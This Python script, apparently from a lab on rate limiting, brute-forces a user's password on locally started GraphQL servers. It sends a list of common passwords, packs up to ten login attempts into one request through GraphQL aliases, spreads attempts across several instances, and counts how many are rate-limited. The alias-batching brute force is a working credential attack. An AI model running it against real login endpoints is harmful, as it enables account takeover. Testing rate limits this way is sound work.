"""Guess ada's password: guess.py, guess.py aliases, guess.py machines, guess.py redis."""

import contextlib
import itertools
import subprocess
import sys
import uuid
from collections import Counter
from collections.abc import Iterator

from machines import asked, free_port, machines

# The last one is hers.
PASSWORDS = [
    "123456",
    "password",
    "123456789",
    "12345678",
    "qwerty",
    "111111",
    "abc123",
    "password1",
    "iloveyou",
    "letmein",
    "monkey",
    "dragon",
    "sunshine",
    "princess",
    "football",
    "welcome",
    "shadow",
    "master",
    "superman",
    "correct horse battery staple",
]
ALIASES = 10  # as many root fields as one request may have
LOGIN = 'a{}: login(input: {{ username: "ada", password: "{}" }}) {{ accessToken }}'


def tried(port: int, passwords: list[str]) -> list[str]:
    """Try passwords in one request; return what came of each: a code, or "opened"."""
    fields = " ".join(LOGIN.format(n, password) for n, password in enumerate(passwords))
    _, answer = asked(port, {"query": f"mutation {{ {fields} }}"})
    codes = {error["path"][0]: error["extensions"]["code"] for error in answer.get("errors", [])}
    return [codes.get(f"a{n}", "opened") for n in range(len(passwords))]


@contextlib.contextmanager
def redis() -> Iterator[str]:
    """Give the address of a Redis in a container of its own."""
    name, port = f"counts-{uuid.uuid4().hex[:8]}", free_port()
    run = ["docker", "run", "--detach", "--rm", "--name", name]
    subprocess.run(
        [*run, "--publish", f"127.0.0.1:{port}:6379", "redis:8"], check=True, capture_output=True
    )
    try:
        yield f"redis://127.0.0.1:{port}"
    finally:
        subprocess.run(["docker", "rm", "--force", name], check=True, capture_output=True)


def main(mode: str = "") -> None:
    """Try all of them, and count what came of it."""
    size = ALIASES if mode == "aliases" else 1
    with contextlib.ExitStack() as stack:
        settings = (
            {"RATELIMIT_STORAGE_URL": stack.enter_context(redis())} if mode == "redis" else {}
        )
        number = 4 if mode in ("machines", "redis") else 1
        ports = itertools.cycle(stack.enter_context(machines(number, **settings)))
        came = []
        for first in range(0, len(PASSWORDS), size):
            came += tried(next(ports), PASSWORDS[first : first + size])
    counts = Counter(came)
    looked_at = counts["UNAUTHENTICATED"] + counts["opened"]
    print(f"passwords tried: {len(came)}, looked at: {looked_at}")
    print(f"refused as too many: {counts['RATE_LIMITED']}")
    print("the account is open" if counts["opened"] else "the account is not open")


if __name__ == "__main__":
    main(*sys.argv[1:])
